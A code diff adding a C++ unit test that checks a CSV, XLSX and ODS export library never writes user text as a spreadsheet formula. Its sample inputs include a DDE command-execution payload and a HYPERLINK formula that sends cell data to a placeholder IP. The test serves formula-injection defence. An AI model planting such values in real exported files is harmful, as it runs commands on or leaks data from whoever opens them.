@@ -243,3 +243,42 @@ TEST_CASE("a csv file on example data says so in its first line; a dash for a ga
           "Gemeentecode;Gemeente;Netto verleend;Datum besluit;Jaar;Aard controle\r\n"
           "GM0344;-;;;;\r\n");
 }
+
+TEST_CASE("no text that a table program would reckon comes out as a formula, in any form") {
+    const std::vector<std::string> texts = {"=1+1",
+                                            "+1+1",
+                                            "-1+1",
+                                            "@SUM(A1)",
+                                            "\t=1+1",
+                                            "\n=1+1",
+                                            "=cmd|' /C calc'!A0",
+                                            "\uFF1D1+1",
+                                            "'=1+1",
+                                            "=HYPERLINK(\"http://192.0.2.1/?\"&A1)"};
+    WorkbookWriter::Sheet sheet;
+    sheet.name = "Blad";
+    sheet.columns = {column("", "=titel"), column("", "b", CellKind::Money)};
+    for (const std::string& text : texts) {
+        sheet.rows.push_back({text, text});
+    }
+    const WorkbookWriter::Workbook workbook{"=titel", "", {sheet}, false, domain::Language::Dutch};
+
+    const std::string csv = exchange::Workbooks().write(workbook, Format::Csv);
+    bool isQuoted = false;
+    bool beginsValue = true;
+    for (const char c : csv.substr(3)) {
+        // Behind a separator or a line end, and behind the quote that opens a value.
+        CHECK_FALSE((beginsValue && std::string("=+-@\t").find(c) != std::string::npos));
+        beginsValue = (!isQuoted && (c == ';' || c == '\n')) || (beginsValue && c == '"');
+        isQuoted = isQuoted != (c == '"');
+    }
+    const auto back = rowsIn(csv);
+    for (std::size_t at = 0; at < texts.size(); ++at) {
+        CHECK(back.at(at + 1).at(0) == texts[at]);
+    }
+    // A workbook says of each cell that it is a text; nothing in it is a formula.
+    CHECK(partOf(exchange::Workbooks().write(workbook, Format::Xlsx), "xl/worksheets/sheet1.xml")
+              .find("<f") == std::string::npos);
+    CHECK(partOf(exchange::Workbooks().write(workbook, Format::Ods), "content.xml")
+              .find("table:formula") == std::string::npos);
+}
